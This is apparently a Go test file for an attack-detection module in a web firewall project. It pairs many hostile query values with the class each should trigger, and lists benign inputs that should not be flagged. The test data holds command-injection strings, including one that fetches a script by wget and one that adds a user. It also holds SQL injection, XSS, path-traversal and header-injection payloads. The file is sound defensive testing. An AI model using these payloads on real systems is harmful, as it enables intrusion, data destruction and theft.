package payload

import (
	"github.com/garda-id/garda/internal/allocstest"
	"net/url"
	"testing"
)

func TestCheck(t *testing.T) {
	attacks := map[string]Class{
		";id": CommandInjection, "|id": CommandInjection, "1;id": CommandInjection, "& id": CommandInjection,
		"a);id": CommandInjection, "`id`": CommandInjection, "$(whoami)": CommandInjection, "| dir c:/": CommandInjection,
		"127.0.0.1 && whoami": CommandInjection, "\nid": CommandInjection, ";cat /etc/passwd": CommandInjection,
		"| type c:\\boot.ini": CommandInjection, "& net user hacker P4ss /add": CommandInjection,
		";cat${IFS}/etc/passwd": CommandInjection, "ping -i 30 127.0.0.1": CommandInjection,
		"ping -n 10 localhost": CommandInjection, "whoami": CommandInjection, "ipconfig": CommandInjection,
		"ls -la": CommandInjection, "cat /etc/passwd": CommandInjection, "wget http://198.51.100.7/x.sh": CommandInjection,
		"cmd /c dir": CommandInjection, "uname -a": CommandInjection, "|/usr/bin/id": CommandInjection,
		"/....//....//web-inf/web.xml": PathTraversal, "....//....//etc/passwd": PathTraversal,
		"..\\..\\windows\\win.ini": PathTraversal, "..;/..;/etc/passwd": PathTraversal, ".../.../etc": PathTraversal,
		"..2f..2f..2fetc2fpasswd": PathTraversal, "\u2025\uff0f\u2025\uff0fetc\uff0fpasswd": PathTraversal,
		"\\nid\\n": CommandInjection,
		"'":        SQLInjection, "''": SQLInjection, "')": SQLInjection, "'--": SQLInjection, "--+": SQLInjection,
		"/*": SQLInjection, ";--": SQLInjection, "' #": SQLInjection, "\"": SQLInjection,
		"&lt;": CrossSiteScripting, "&lt;script&gt;alert(1)&lt;/script&gt;": CrossSiteScripting, "&LT;/BODY&GT;": CrossSiteScripting,
		"&#x3C": CrossSiteScripting, "&#60;script": CrossSiteScripting, "\\u003cscript\\u003e": CrossSiteScripting,
		"1 and sleep(5)": SQLInjection, "admin'--": SQLInjection, "1' order by 3--": SQLInjection,
		"1 union select 1,2": SQLInjection, "AND 4821=4821": SQLInjection, "OR NOT 4821=4821": SQLInjection,
		"HAVING 1234=1234": SQLInjection, "or true--": SQLInjection, "1 ORDER BY 10": SQLInjection,
		"ORDER BY 10--": SQLInjection, "ORDER BY 1 DESC--": SQLInjection, "1') order by 4#": SQLInjection, "select * from pg_shadow;": SQLInjection, "' or 'a'='a": SQLInjection, "1;drop table users": SQLInjection,
		"<script>alert(1)</script>": CrossSiteScripting, "\"><img src=x onerror=alert(1)>": CrossSiteScripting,
		"/etc/netconfig": PathTraversal, "/proc/self/environ": PathTraversal, "c:\\inetpub\\wwwroot\\index.asp": PathTraversal,
		"/WEB-INF/web.xml": PathTraversal, "/C:/inetpub/ftproot/x": PathTraversal, "file:///etc/hosts": PathTraversal,
		"%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd": PathTraversal, "..2fetc2fpasswd": PathTraversal,
		"1` and gtid_subset(concat(0x71,(select (elt(1=1,1))),0x71),1)#": SQLInjection, "--sp_password": SQLInjection,
		"1')) waitfor delay '0:0:5'--": SQLInjection, "');shutdown--": SQLInjection, "1 or (EXISTS)": SQLInjection,
		"' grant connect to name; grant resource to name; --": SQLInjection, "select session_user;": SQLInjection,
		"1%' and 3580=3580 and '%'='": SQLInjection, "-1\" union all select null,null-- -": SQLInjection,
		"1;declare @x char(9);set @x=0x303a303a35;waitfor delay @x": SQLInjection, "OR [RANDNUM]=[RANDNUM]": SQLInjection,
		"OR NOT [RANDNUM]=[RANDNUM]": SQLInjection, "([RANDNUM]=[RANDNUM])*[ORIGVALUE]": SQLInjection, "x' or 'a' like 'a": SQLInjection,
		"1'\"(,.)(.": SQLInjection, "Madrid.)(\".,'(..": SQLInjection, "1 ' \" ( , . ) ( .": SQLInjection,
		"Vaciar carrito AND SLEEP(2)#": SQLInjection, "c/ academia, 59, 3 rlike sleep ( 2 )": SQLInjection,
		"juan@hotmail.com and 9925 = ( select count ( * ) from all_users t1,all_users t2 )": SQLInjection,
		"1 AND 5060 BETWEEN 5060 AND 5060":                                                  SQLInjection, "-9357` /*!OR*/ 1671=1671--": SQLInjection,
		"1--x\nAND--x\n4821=4821#": SQLInjection, "35%\uff07 WAITFOR DELAY \uff070:0:3\uff07-- -": SQLInjection,
		"2` WHERE 4893 LIKE 4893 AND 4893 LIKE 4893#": SQLInjection, "Vaciar/**/carrito/**/AND/**/SLEEP(3)": SQLInjection,
		"1/**/AND/**/GTID_SUBSET(CONCAT(0x71,(SELECT/**/(ELT(6845=6845,1))),0x71),6845)": SQLInjection,
		"\r\nSet-Cookie: a=b": HeaderInjection, "x\nLocation: http://x.example/": HeaderInjection,
	}
	for v, want := range attacks {
		var got Class
		for _, f := range Check("/cari?q="+url.QueryEscape(v), nil) {
			got |= f.Class
		}
		if got&want == 0 {
			t.Errorf("%q: found %b, want %b", v, got, want)
		}
	}
	if got := Check("/%0d%0aSet-Cookie:%20x=1", nil); len(got) != 1 || got[0].Class != HeaderInjection {
		t.Errorf("header injection in the path: %v", got)
	}
	ordinary := []string{"Tom & Jerry", "R&D", "Q&A", "dogs & cat", "Blok A; No. 4", "Nama: Budi; Umur: 45",
		"A; type B", "ibu & anak", "suara sah: 98,5% | tidak sah: 1,5%", "id card hilang", "cat videos", "ping pong",
		"../berita", "Jl. K.H. Agus Salim No.5", "c/ academia, 59, 3", "Rp 1.500.000", "P.O. Box 1234", "...",
		"tunggu... ya", "Saya suka \"quick count\"", "AT&T", "harga $5 & ongkir gratis", "pa$$word", "Johnson & Johnson",
		"Catatan:\nberkas lengkap", "Dr. Ir. H. Joko Widodo, M.Sc.", "jadwal pemilu 2024; lokasi tps", "C:\\new\\nama.docx", "Rp 1..2 juta", "‥ dan ‥",
		"-", "--", "---", "#", "#1", "O'Brien", ":)", ":-(", "()", "*****", "...", "&#39;", "Tom &#38; Jerry", "&#601;",
		"select your region", "order by date", "Please select one option", "1 < 2", "a=b", "(hasil) pemilu", "x > y",
		"or something like that", "and 5 more", "or 2", "and/or", "And then (finally) it ended",
		"order by nama, umur", "select 2 kandidat", "Union Jack", "order by harga desc", "order by 2 pm",
		"/home/budi/dokumen", "C:\\Users\\budi\\surat.docx", "/berita/2024/02", "/etc", "Jl. Merdeka No. 5, RT 03/RW 02",
		"Sa'adah and Ma'ruf", "(1) and (2)", "Soviet Union (1922-1991)", "pilih (a) or (b)", "{\"page\":1,\"limit\":25}",
		"&lt;p&gt;Halo&lt;/p&gt;", "1 &lt; 2", "a &lt;= b", "grant access to all staff", "a = b or c = d", "x=1 or y=2", "either A or B like B", "(a+b)=(a+b)", "or = or", "Nama: O'Brien; Umur: 45", "'quick count' or 'real count'?", "x = 5 and y = 6",
		"Dijo \"hola\" (sic).", "('a', 'b')", "and sleep (tidur)", "pilih A or (B)", "x between x and y", "5' 11\" (tall)",
		"catatan --\nlihat lampiran (2)", "lihat /* catatan */ di bawah", "a/**/b = c", "#1\nor 2 (dua)",
		"ls of cards", "whoami quiz", "wget alternative for windows", "python", "echo", "id", "cat lucu", "type A/B"}
	for _, v := range ordinary {
		if got := Check("/cari?q="+url.QueryEscape(v), nil); len(got) > 0 {
			t.Errorf("%q: found %v in an ordinary value", v, got)
		}
	}
}

func TestCheckNoAllocPlain(t *testing.T) {
	for _, target := range []string{"/berita/123?page=2&q=jadwal+pemilu", "/f?next=/home/budi/dokumen&nama=Budi+Santoso"} {
		if n := allocstest.PerRun(100, func() { Check(target, nil) }); n != 0 {
			t.Errorf("%v allocations for an ordinary target %s", n, target)
		}
	}
}
